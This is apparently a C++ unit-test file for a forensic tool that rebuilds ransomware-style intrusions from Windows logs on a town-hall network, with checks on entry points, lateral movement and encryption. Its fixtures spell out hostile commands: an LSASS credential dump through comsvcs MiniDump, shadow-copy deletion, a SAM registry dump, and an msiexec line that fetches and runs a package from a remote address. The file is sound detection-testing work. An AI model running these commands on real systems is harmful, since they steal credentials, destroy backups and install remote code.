// SPDX-License-Identifier: EUPL-1.2
#include "diagnose/attack/attack.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "diagnose/book_for_tests.h"

namespace beffroi::diagnose {
namespace {

using Fields = BookForTests::Fields;

Fields logon(std::string user, std::string type, std::string address, std::string id) {
  return {{"user.name", std::move(user)},
          {"user.domain", "MAIRIE"},
          {"winlog.logon.type", std::move(type)},
          {"source.ip", std::move(address)},
          {"winlog.logon.id", std::move(id)}};
}

Fields run(std::string path, std::string command, std::string parent, std::string id = "0x3e7", std::string user = {}) {
  Fields fields = {{"process.executable", std::move(path)},
                   {"process.command_line", std::move(command)},
                   {"process.parent.executable", std::move(parent)},
                   {"winlog.logon.id", std::move(id)}};
  if (!user.empty()) fields.emplace_back("user.name", std::move(user));
  return fields;
}

/// Two machines that say which address they have.
void add_machines(BookForTests& town) {
  town.fact("authentication.logged-in", "2026-11-01T06:00:00Z", "DC1.mairie.local", logon("TSE$", "3", "10.0.0.5", "0x11"));
  town.fact("authentication.logged-in", "2026-11-01T06:00:01Z", "TSE.mairie.local", logon("DC1$", "3", "10.0.0.2", "0x12"));
  town.fact("authentication.kerberos-ticket-requested", "2026-11-01T06:00:02Z", "DC1.mairie.local",
            {{"user.name", "m.durand"}});
}

constexpr const char* kCmd = "C:\\Windows\\System32\\cmd.exe";

/// From the remote desktop server by a service to the domain controller, copies destroyed there.
void add_attack(BookForTests& town, const std::string& address) {
  add_machines(town);
  town.fact("authentication.logged-in", "2026-11-08T01:00:00Z", "TSE.mairie.local",
            logon("prestataire", "10", address, "0xaa"));
  town.fact(
      "process.start", "2026-11-08T01:10:00Z", "TSE.mairie.local",
      run("C:\\Windows\\System32\\rundll32.exe", "rundll32 comsvcs.dll, MiniDump 600 x.dmp full", kCmd, "0xaa", "prestataire"));
  town.fact("authentication.logged-in", "2026-11-08T01:20:00Z", "DC1.mairie.local", logon("admin", "3", "10.0.0.5", "0xbb"));
  town.fact("configuration.service-installed", "2026-11-08T01:20:01Z", "DC1.mairie.local",
            {{"service.name", "xkqz"},
             {"process.executable", "%SystemRoot%\\xkqz.exe"},
             {"winlog.logon.id", "0xbb"},
             {"user.name", "admin"}});
  town.fact("process.start", "2026-11-08T01:20:02Z", "DC1.mairie.local",
            run("C:\\Windows\\xkqz.exe", "xkqz", "C:\\Windows\\System32\\services.exe"));
  town.fact("process.start", "2026-11-08T01:20:09Z", "DC1.mairie.local",
            run("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all", "C:\\Windows\\xkqz.exe"));
  town.fact("configuration.audit-log-cleared", "2026-11-08T01:30:00Z", "TSE.mairie.local", {{"user.name", "prestataire"}});
}

const HitHost* hit(const Scene& scene, std::string_view name) {
  const auto found = scene.attack.hosts.find(scene.hosts.of_name(name));
  return found == scene.attack.hosts.end() ? nullptr : &found->second;
}

TEST(Attack, FollowsASystemServiceBackToTheMachineItsInstallerCameFrom) {
  BookForTests town;
  add_attack(town, "203.0.113.9");
  const Scene& scene = town.scene();
  ASSERT_EQ(scene.attack.sureness, Sureness::sure);
  ASSERT_EQ(scene.attack.moves.size(), 1U);
  const Move& move = scene.attack.moves.front();
  EXPECT_EQ(scene.hosts.name(move.from), "TSE.mairie.local");
  EXPECT_EQ(scene.hosts.name(move.to), "DC1.mairie.local");
  EXPECT_EQ(move.account, "admin");
  EXPECT_EQ(move.method, "service_execution");
  ASSERT_TRUE(hit(scene, "DC1"));
  EXPECT_TRUE(hit(scene, "DC1")->is_compromised());
  EXPECT_TRUE(scene.attack.accounts.contains("prestataire"));
}

TEST(Attack, AnAddressOfTheInternetIsADoorAnAddressOfAnotherNetworkAVpn) {
  for (const auto& [address, vector] :
       {std::pair("203.0.113.9", "exposed_remote_desktop"), std::pair("10.8.0.7", "vpn_account")}) {
    BookForTests town;
    add_attack(town, address);
    const Scene& scene = town.scene();
    ASSERT_FALSE(scene.attack.entries.empty());
    const Entry& first = scene.attack.entries.front();
    EXPECT_EQ(first.vector, vector);
    EXPECT_EQ(scene.hosts.name(first.host), "TSE.mairie.local");
    EXPECT_EQ(first.account, "prestataire");
    EXPECT_EQ(first.source_ip, address);
  }
}

TEST(Attack, WithoutTheRecordOfTheEntryOnlyTheFirstMachineIsNamed) {
  BookForTests town;
  add_machines(town);
  town.fact("process.start", "2026-11-08T01:10:00Z", "TSE.mairie.local",
            run("C:\\x.exe", "rundll32 comsvcs.dll, MiniDump 600 x.dmp full", kCmd, "0xaa", "prestataire"));
  town.fact("process.start", "2026-11-08T01:11:00Z", "TSE.mairie.local",
            run("C:\\x.exe", "vssadmin delete shadows /all", kCmd));
  town.fact("configuration.audit-log-cleared", "2026-11-08T01:30:00Z", "TSE.mairie.local");
  const Scene& scene = town.scene();
  ASSERT_FALSE(scene.attack.entries.empty());
  EXPECT_EQ(scene.attack.entries.front().vector, "unknown");
  EXPECT_LT(scene.attack.entries.front().confidence, 0.8);
}

TEST(Attack, ADocumentThatStartsAShellIsTheWayInHoweverLoudTheEnd) {
  BookForTests town;
  add_attack(town, "10.0.0.77");
  town.fact("process.start", "2026-11-03T09:00:00Z", "PC-1.mairie.local",
            {{"process.executable", "C:\\Office\\WINWORD.EXE"},
             {"process.command_line",
              "\"C:\\Office\\WINWORD.EXE\" /n \"C:\\Users\\m.durand\\AppData\\Content.Outlook\\facture.docm\""},
             {"process.pid", "40"},
             {"user.name", "m.durand"}});
  town.fact("process.start", "2026-11-03T09:00:09Z", "PC-1.mairie.local",
            {{"process.executable", "C:\\Windows\\System32\\cmd.exe"},
             {"process.command_line", "cmd /c x"},
             {"process.parent.executable", "C:\\Office\\WINWORD.EXE"},
             {"process.parent.pid", "40"},
             {"user.name", "m.durand"}});
  const Scene& scene = town.scene();
  const auto& entries = scene.attack.entries;
  const auto document = std::ranges::find(entries, "phishing_attachment", &Entry::vector);
  ASSERT_NE(document, entries.end());
  EXPECT_EQ(document->artefact, "facture.docm");
  EXPECT_EQ(document->account, "m.durand");
}

/// What a provider does with an inventory: the same program as a service on one workstation after the other.
void add_rollout(BookForTests& town, const std::string& day) {
  int number = 0;
  for (const char* host : {"PC1.mairie.local", "PC2.mairie.local", "PC3.mairie.local"}) {
    const std::string id = "0xe" + std::to_string(++number), minute = day + "T08:0" + std::to_string(number);
    town.fact("authentication.logged-in", minute + ":00Z", host, logon("numeria", "3", "10.0.0.5", id));
    town.fact("configuration.service-installed", minute + ":01Z", host,
              {{"service.name", "Inventaire"},
               {"process.executable", "C:\\Windows\\Temp\\Inventaire.exe /S"},
               {"winlog.logon.id", id},
               {"user.name", "numeria"}});
  }
}

void add_infected_key(BookForTests& town, const std::string& moment) {
  town.fact("authentication.logged-in", "2026-11-09T07:00:00Z", "PC1.mairie.local", logon("a.durand", "2", "", "0xaa"));
  town.fact("host.device-connected", "2026-11-09T07:20:00Z", "PC1.mairie.local", {{"winlog.device.id", "USBSTOR\\DISK"}});
  town.fact("process.start", moment, "PC1.mairie.local",
            run(kCmd, "cmd.exe /c start explorer \"Documents.lnk\" & \"E:\\_\\q7xk.exe\"", "C:\\Windows\\explorer.exe", "0xaa",
                "a.durand"));
  town.fact("process.start", moment, "PC1.mairie.local",
            run("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /q /i http://203.0.113.150:8080/x", "E:\\_\\q7xk.exe",
                "0xaa", "a.durand"));
}

TEST(Attack, WhatAProviderRolledOutTheDayBeforeIsNotOfTheAttack) {
  BookForTests town;
  add_machines(town);
  add_rollout(town, "2026-11-08");
  add_infected_key(town, "2026-11-09T10:00:00Z");
  const Scene& scene = town.scene();
  ASSERT_EQ(scene.attack.sureness, Sureness::sure);
  EXPECT_TRUE(scene.attack.moves.empty());
  EXPECT_FALSE(hit(scene, "TSE"));
  EXPECT_FALSE(hit(scene, "PC2"));
  EXPECT_TRUE(
      std::ranges::none_of(scene.attack.clues, [](const Clue* clue) { return clue->kind == "service_from_odd_folder"; }));
  EXPECT_FALSE(scene.attack.accounts.contains("numeria"));
}

TEST(Attack, WhatIsRolledOutFromAMachineOfTheAttackIs) {
  BookForTests town;
  add_machines(town);
  add_infected_key(town, "2026-11-09T07:30:00Z");
  add_rollout(town, "2026-11-09");
  const Scene& scene = town.scene();
  EXPECT_TRUE(hit(scene, "TSE"));
  EXPECT_TRUE(hit(scene, "PC3"));
}

TEST(Attack, TheSameFileFoundByAScannerMakesAnotherMachineSuspectedOnly) {
  BookForTests town;
  add_machines(town);
  add_infected_key(town, "2026-11-09T10:00:00Z");
  town.fact("authentication.logged-in", "2026-11-09T11:00:00Z", "PC4.mairie.local", logon("k.petit", "2", "", "0xdd"));
  town.fact("malware.malware-detected", "2026-11-09T12:00:00Z", "PC4.mairie.local",
            {{"threat.software.name", "Worm:Win32/Any"}, {"file.path", "file:_F:\\_\\q7xk.exe"}, {"user.name", "k.petit"}});
  const Scene& scene = town.scene();
  ASSERT_TRUE(hit(scene, "PC4"));
  EXPECT_FALSE(hit(scene, "PC4")->is_compromised());
}

TEST(Attack, AdministratorsWorkOfAMonthMakesNone) {
  BookForTests town;
  add_machines(town);
  for (const auto* day : {"2026-11-03", "2026-11-09", "2026-11-17"}) {
    const std::string date = day;
    town.fact("authentication.logged-in", date + "T09:00:00Z", "DC1.mairie.local",
              logon("admin", "3", "10.0.0.5", "0x" + date.substr(8)));
    town.fact("configuration.service-installed", date + "T09:00:01Z", "DC1.mairie.local",
              {{"service.name", "PSEXESVC"}, {"process.executable", "%SystemRoot%\\PSEXESVC.exe"}, {"user.name", "admin"}});
    town.fact("process.start", date + "T09:00:02Z", "DC1.mairie.local", run(kCmd, "whoami /all", "C:\\Windows\\PSEXESVC.exe"));
  }
  EXPECT_EQ(town.scene().attack.sureness, Sureness::none);
  EXPECT_TRUE(town.scene().attack.moves.empty());
}

TEST(Attack, FilesWithANewEndingMakeAMachineEncrypted) {
  BookForTests town;
  add_attack(town, "203.0.113.9");
  town.fact("file.burst", "2026-11-08T01:25:00Z", "SRV-FIC.mairie.local",
            {{"winlog.files", "400"},
             {"winlog.files.same_extension", "390"},
             {"winlog.files.double_extension", "390"},
             {"file.extension", ".lock9"},
             {"source.ip", "10.0.0.5"},
             {"user.name", "admin"}});
  const Scene& scene = town.scene();
  ASSERT_TRUE(hit(scene, "SRV-FIC"));
  EXPECT_TRUE(hit(scene, "SRV-FIC")->encrypted);
}

TEST(Attack, AMigrationThatKeepsEndingsEncryptsNothing) {
  BookForTests town;
  town.fact("file.burst", "2026-11-08T01:25:00Z", "SRV-FIC.mairie.local",
            {{"winlog.files", "4000"},
             {"winlog.files.same_extension", "3900"},
             {"winlog.files.double_extension", "2"},
             {"file.extension", ".docx"}});
  EXPECT_EQ(town.scene().attack.sureness, Sureness::none);
}

TEST(Attack, AShellThatReachedTheMachineASecondBeforeBringsItsOwnMachineIn) {
  BookForTests town;
  add_machines(town);
  town.fact("authentication.logged-in", "2026-11-08T01:00:00Z", "DC1.mairie.local", logon("m.durand", "3", "10.0.0.5", "0xcc"));
  town.fact("network.flow", "2026-11-08T01:00:00Z", "TSE.mairie.local",
            {{"source.ip", "10.0.0.5"},
             {"destination.ip", "10.0.0.2"},
             {"destination.port", "49913"},
             {"process.executable", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}});
  town.fact("process.start", "2026-11-08T01:00:01Z", "DC1.mairie.local",
            run(kCmd, "reg save hklm\\sam c:\\x", "C:\\Windows\\explorer.exe", "0xdd", "a.martin"));
  town.fact("process.start", "2026-11-08T01:02:00Z", "DC1.mairie.local",
            run(kCmd, "vssadmin delete shadows /all", "C:\\Windows\\explorer.exe", "0xdd", "a.martin"));
  const Scene& scene = town.scene();
  ASSERT_EQ(scene.attack.moves.size(), 1U);
  EXPECT_EQ(scene.hosts.name(scene.attack.moves[0].from), "TSE.mairie.local");
  EXPECT_EQ(scene.attack.moves[0].method, "dcom");
  EXPECT_EQ(scene.attack.moves[0].account, "m.durand");
  ASSERT_TRUE(hit(scene, "TSE"));
}

}  // namespace
}  // namespace beffroi::diagnose
